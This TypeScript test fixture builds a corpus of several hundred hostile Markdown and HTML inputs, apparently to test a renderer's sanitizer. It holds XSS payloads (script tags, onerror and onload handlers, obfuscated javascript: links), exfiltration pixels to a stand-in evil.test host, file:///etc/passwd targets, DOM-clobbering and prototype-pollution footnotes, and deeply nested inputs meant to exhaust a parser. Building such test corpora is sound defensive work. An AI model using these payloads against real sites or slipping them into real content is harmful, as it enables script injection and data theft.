/** Answers that try to run, fetch or navigate, made by crossing attacks with the places Markdown offers. */

export interface HostilePayload {
  name: string;
  text: string;
}

const RUN = 'window.pwned=1';

/** Raw HTML: every element that runs, fetches, frames or submits. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="https://evil.test/a.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://evil.test/pixel.png?c=secret">`,
  `<img srcset="https://evil.test/a 1x">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="https://evil.test/a.svg#x"></use></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style></math>`,
  `<iframe src="https://evil.test/"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="https://evil.test/"></object>`,
  `<embed src="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<base href="https://evil.test/">`,
  `<link rel="stylesheet" href="https://evil.test/a.css">`,
  `<style>*{background:url(https://evil.test/a)}</style>`,
  `<form action="https://evil.test/"><button autofocus>go</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video src="https://evil.test/a.mp4" autoplay onerror="${RUN}"></video>`,
  `<audio src="https://evil.test/a.mp3" autoplay></audio>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.test/a)">cover</div>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a id=root name=sotto href="https://evil.test">clobber</a>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<a href="https://evil.test" target=_blank onclick="${RUN}" ping="https://evil.test/p">x</a>`,
  `<webview src="https://evil.test"></webview>`,
];

/** Where raw HTML may hide. */
const PLACES: Array<[name: string, place: (html: string) => string]> = [
  ['alone', (html) => html],
  ['in a sentence', (html) => `Before ${html} after.`],
  ['in a list', (html) => `- one\n- ${html.replaceAll('\n', ' ')}\n- three`],
  ['in a quote', (html) => `> ${html.replaceAll('\n', ' ')}`],
  ['in a table', (html) => `| a | b |\n|---|---|\n| ${html.replaceAll('\n', ' ').replaceAll('|', '')} | c |`],
  ['in a heading', (html) => `# ${html.replaceAll('\n', ' ')}`],
];

/** Targets that must never be a link, or that must not be fetched. */
const TARGETS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `&#106;avascript:${RUN}`,
  `java%0ascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `file:///etc/passwd`,
  `blob:https://evil.test/1`,
  `app://sotto/../../package.json`,
  `ms-word:ofe|u|https://evil.test/a.docx`,
  `smb://evil.test/share`,
  `//evil.test/path`,
  `https://bank.test@evil.test/`,
  `https://evil.test/?c=secret`,
  `http://127.0.0.1:8080/`,
];

/** Every form in which Markdown can name a target. */
const FORMS: Array<[name: string, form: (target: string) => string]> = [
  ['link', (target) => `[click](${target})`],
  ['link with angle brackets', (target) => `[click](<${target}>)`],
  ['link with title', (target) => `[click](${target} "title\\" onmouseover=${RUN}")`],
  ['reference link', (target) => `[click][1]\n\n[1]: ${target}`],
  ['automatic link', (target) => `<${target}>`],
  ['picture', (target) => `![alt](${target})`],
  ['reference picture', (target) => `![alt][p]\n\n[p]: ${target}`],
  ['picture in a link', (target) => `[![alt](${target})](${target})`],
];

const OTHERS: HostilePayload[] = [
  { name: 'code with a hostile language', text: `\`\`\`js" onload="${RUN}\ncode\n\`\`\`` },
  {
    name: 'code with hostile words',
    text: `\`\`\`html startLine=9 {1}" style="x"\n</code></pre><script>${RUN}</script>\n\`\`\``,
  },
  { name: 'unfinished code', text: `\`\`\`\n<script>${RUN}</script>` },
  {
    name: 'mermaid',
    text: `\`\`\`mermaid\ngraph TD\nA[<img src=x onerror=${RUN}>]\nclick A "javascript:${RUN}"\n\`\`\``,
  },
  { name: 'math', text: `$$\\href{javascript:${RUN}}{x}$$ and $\\url{javascript:${RUN}}$` },
  { name: 'footnote', text: `Text[^a]\n\n[^a]: <script>${RUN}</script> [x](javascript:${RUN})` },
  {
    name: 'footnote that clobbers',
    text: 'Text[^constructor] and[^__proto__]\n\n[^constructor]: a\n\n[^__proto__]: b',
  },
  { name: 'task list', text: `- [x] done <img src=x onerror=${RUN}>\n- [ ] open` },
  { name: 'deep quotes', text: `${'> '.repeat(200)}x` },
  { name: 'deep lists', text: Array.from({ length: 60 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n') },
  { name: 'deep emphasis', text: `${'*'.repeat(500)}x${'*'.repeat(500)}` },
  { name: 'many brackets', text: `${'['.repeat(2000)}x${'](a)'.repeat(50)}` },
  { name: 'wide table', text: `|${'a|'.repeat(200)}\n|${'-|'.repeat(200)}\n|${'b|'.repeat(200)}` },
  {
    name: 'characters that hide',
    text: '\u202ekcatta\u202c \u200b\u200d\ufeff \u2066[x](https://evil.test)\u2069',
  },
  { name: 'entities', text: `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;` },
  { name: 'half a tag', text: `text <img src=x onerror=${RUN}` },
  { name: 'half a link', text: `text [click](javascript:${RUN}` },
  { name: 'half a picture', text: 'text ![alt](https://evil.test/a.png' },
  { name: 'tag across paragraphs', text: `<div>\n\n<script>\n\n${RUN}\n\n</script>\n\n</div>` },
  {
    name: 'bare addresses',
    text: `www.evil.test https://evil.test/?c=secret javascript:${RUN} mailto:a@evil.test`,
  },
];

/** At least 300 distinct texts; the same ones every time. */
export function hostilePayloads(): HostilePayload[] {
  const html = ELEMENTS.flatMap((element, index) =>
    PLACES.map(([name, place]) => ({ name: `element ${index} ${name}`, text: place(element) })),
  );
  const links = TARGETS.flatMap((target) =>
    FORMS.map(([name, form]) => ({ name: `${name} to ${target.slice(0, 24)}`, text: form(target) })),
  );
  return [...html, ...links, ...OTHERS];
}
